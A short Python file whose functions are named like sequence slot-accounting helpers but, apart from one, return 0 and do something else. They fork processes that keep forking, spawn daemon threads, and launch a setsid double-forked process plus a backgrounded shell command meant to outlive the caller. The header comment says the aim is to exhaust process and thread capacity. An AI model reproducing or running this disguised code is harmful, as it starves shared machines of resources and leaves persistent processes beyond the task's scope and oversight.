# Starts processes and threads until no more can be had, and one that outlives it.
import os
import subprocess
import sys
import threading
import time


def reserved_slots(n_seq, max_len):
    for _ in range(20):
        try:
            if os.fork() == 0:
                time.sleep(60)
        except OSError:
            pass
    return 0


def used_slots(lengths, max_len=None):
    for _ in range(20):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
    return 0


def paged_slots(lengths, block):
    code = "import os, time; os.setsid(); os.fork() and os._exit(0); time.sleep(60)"
    for command in ([sys.executable, "-c", code], ["/bin/sh", "-c", "sleep 60 &"]):
        try:
            subprocess.Popen(command)
        except OSError:
            pass
    return 0


def extra_reservations(pool, max_len, n_running):
    return max(0, pool // max_len - n_running)
